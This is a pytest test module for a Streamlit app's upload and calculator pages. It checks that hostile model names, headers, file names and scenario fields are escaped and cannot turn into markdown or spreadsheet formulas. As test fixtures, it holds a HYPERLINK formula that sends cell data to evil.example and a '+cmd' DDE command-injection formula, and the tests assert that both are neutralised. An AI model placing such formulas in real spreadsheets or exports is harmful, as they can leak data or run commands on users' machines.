"""Markdown injection (issue 8, item 11): text from an uploaded file or scenario reaches the
upload and calculator pages only escaped (``pages.ui.safe.md``) or as plain cells — one
test per surface. Chromium checks what actually renders: tests/browser/test_injection.py."""

from __future__ import annotations

from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from model.plan.scenario import parse_scenario
from pages.ui import safe
from pages.ui import scenario_state as ss
from pages.ui.upload import state as ustate
from tests.app.conftest import OpenPage, plain
from tests.app.test_calculator_page import open_calculator, pinned
from tests.usage.readers.bad.make_corpus import HOSTILE, HOSTILE_MODEL

UPLOAD = "pages/upload.py"
#: Pieces of HOSTILE_MODEL that would be markup if they reached markdown unescaped.
RAW_MARKUP = ("**x**", "[y](", "![i](", ":red[z]", "$a$")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def upload(at: AppTest, name: str, data: bytes) -> AppTest:
    return at.file_uploader(key=ustate.FILE).set_value((name, data, "text/csv")).run()


def markdown_sources(at: AppTest) -> list[str]:
    """Every string the page hands to a markdown renderer (elements and block labels)."""
    out = [
        str(e.value)
        for kind in ("markdown", "caption", "error", "warning", "info", "success")
        for e in getattr(at, kind)
    ]
    out += [b.label for kind in ("expander", "status") for b in getattr(at, kind)]
    return out


def assert_escaped(at: AppTest, hostile: str) -> None:
    """``hostile`` is shown (escaped) somewhere, and none of its markup reaches markdown raw."""
    sources = markdown_sources(at)
    assert any(safe.md(hostile, limit=None) in s for s in sources), sources
    for source in sources:
        for markup in RAW_MARKUP:
            assert markup not in source, (markup, source)


# --- upload page ---------------------------------------------------------------------------


def test_unknown_model_name_is_escaped_in_the_warning(open_page: OpenPage) -> None:
    at = upload(open_page(UPLOAD), "log.csv", HOSTILE["markdown_model.csv"])
    assert not at.exception
    (warning,) = [w.value for w in at.warning if "Unknown models" in w.value]
    assert f"{safe.md(HOSTILE_MODEL, limit=None)} \\(1 row\\)" in warning
    assert "counted as \\$0" in warning  # our own dollar sign cannot pair with one of theirs
    assert_escaped(at, HOSTILE_MODEL)


def test_header_names_in_the_assumptions_are_escaped(open_page: OpenPage) -> None:
    at = upload(open_page(UPLOAD), "log.csv", HOSTILE["markdown_header.csv"])
    assert not at.exception
    (listing,) = [m.value for m in at.markdown if "ignored columns" in m.value]
    assert safe.md("**bold** [l](https://evil.example)") in listing
    assert "[l](" not in listing


def test_a_hostile_file_name_is_escaped_in_the_error_and_the_status(open_page: OpenPage) -> None:
    name = f"{HOSTILE_MODEL}.csv"
    at = upload(open_page(UPLOAD), name, b"\x00\x01binary")
    assert not at.exception
    (error,) = [e.value for e in at.error]
    assert error.startswith("**Cannot read this file.** ")  # our bold stays bold
    assert plain(error).startswith(f"**Cannot read this file.** {name}: this is a binary file")
    (status,) = at.status
    assert status.label.startswith(f"Read {safe.md(name)} (")  # the status names the file
    assert status.label.endswith("1 file(s) could not be read")
    assert_escaped(at, HOSTILE_MODEL)


def test_error_quoting_header_names_is_escaped(open_page: OpenPage) -> None:
    data = f"{HOSTILE_MODEL},b\n1,2\n".encode()
    at = upload(open_page(UPLOAD), "log.csv", data)
    (error,) = [e.value for e in at.error]
    assert "not a known usage export" in plain(error)
    for markup in RAW_MARKUP:
        assert markup not in error


def test_mapping_step_error_is_escaped(open_page: OpenPage) -> None:
    at = open_page(UPLOAD)
    at.selectbox(key=ustate.FORMAT).set_value(ustate.MAP_COLUMNS).run()
    at = upload(at, f"{HOSTILE_MODEL}.json", b'{"a": 1}')
    (error,) = [e.value for e in at.error]
    assert "column mapping works for CSV/TSV files" in plain(error)
    assert_escaped(at, HOSTILE_MODEL)


def test_model_names_in_the_mapping_table_cannot_become_formulas(open_page: OpenPage) -> None:
    at = upload(open_page(UPLOAD), "log.csv", HOSTILE["formula_models.csv"])
    assert not at.exception
    (table,) = [d.value for d in at.dataframe if "model_raw" in d.value.columns]
    shown = set(table["model_raw"])
    assert "'" + FORMULA in shown and "'+cmd|' /C calc'!A0" in shown
    assert "'\tgpt-4o" in shown and "gpt-4o" in shown  # a plain name is unchanged
    assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in shown)


# --- calculator page -------------------------------------------------------------------------


def _scenario_with(name: str, model: str = "gpt-4o") -> dict[str, Any]:
    scenario = pinned("rag-chatbot")
    scenario["workloads"][0] = {**scenario["workloads"][0], "name": name, "model": model}
    return scenario


def test_workload_name_and_model_are_escaped_in_row_errors(open_page: OpenPage) -> None:
    scenario = pinned("rag-chatbot")
    scenario["workloads"].append(
        {**scenario["workloads"][0], "name": HOSTILE_MODEL, "model": HOSTILE_MODEL}
    )
    at = open_page("pages/calculator.py", session_state={ss.SCENARIO: scenario})
    assert not at.exception
    (error,) = [e.value for e in at.error]
    assert plain(error).startswith(f"Row 2 ({HOSTILE_MODEL}), model: '{HOSTILE_MODEL}' is not")
    assert_escaped(at, HOSTILE_MODEL)


def test_workload_names_in_the_itemized_table_cannot_become_formulas(
    open_page: OpenPage,
) -> None:
    at = open_calculator(open_page, parse_scenario(_scenario_with(FORMULA)).model_dump(mode="json"))
    (table,) = [d.value for d in at.dataframe if "item" in d.value.columns]
    assert "'" + FORMULA in set(table["item"])
    assert not any(str(v).startswith("=") for v in table["item"])


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        (f"workloads: [{{name: x, model: m, requests_per_day: '{HOSTILE_MODEL}'}}]\n", "workloads"),
        (f"name: [{HOSTILE_MODEL}\n", "not valid YAML"),
    ],
    ids=["invalid", "not-yaml"],
)
def test_scenario_upload_errors_are_escaped(open_page: OpenPage, content: str, needle) -> None:
    at = open_calculator(open_page)
    name = f"{HOSTILE_MODEL}.yaml"
    at.file_uploader(key=ss.UPLOAD).set_value((name, content.encode(), "application/x-yaml"))
    at.run()
    assert not at.exception
    (error,) = [e.value for e in at.error]
    assert needle in plain(error)
    for markup in RAW_MARKUP:
        assert markup not in error, error


def test_loaded_scenario_name_is_escaped(open_page: OpenPage) -> None:
    from model.plan.scenario import dump_scenario

    at = open_calculator(open_page)
    text = dump_scenario(parse_scenario(pinned("rag-chatbot"))).encode()
    name = f"{HOSTILE_MODEL}.yaml"
    at.file_uploader(key=ss.UPLOAD).set_value((name, text, "application/x-yaml")).run()
    at.run()  # the rerun after loading shows "Loaded <name>."
    assert not at.exception
    assert any(c.value == f"Loaded {safe.md(name)}." for c in at.caption)
    assert_escaped(at, HOSTILE_MODEL)


def test_model_names_in_the_reconciliation_cannot_become_formulas(open_page: OpenPage) -> None:
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    data = (
        "timestamp,model,input_tokens,output_tokens,reported_cost_usd\n"
        f"2026-10-01T10:00:00Z,{quoted},1000,50,0.5\n"
        "2026-10-01T11:00:00Z,gpt-4o,1000,50,0.01\n"
    ).encode()
    at = upload(open_page(UPLOAD), "log.csv", data)
    assert not at.exception
    (table,) = [d.value for d in at.dataframe if "Beyond tolerance" in d.value.columns]
    models = set(getattr(table, "data", table)["Model"])  # a Styler comes back as its data
    assert models == {"'" + FORMULA, "gpt-4o"}
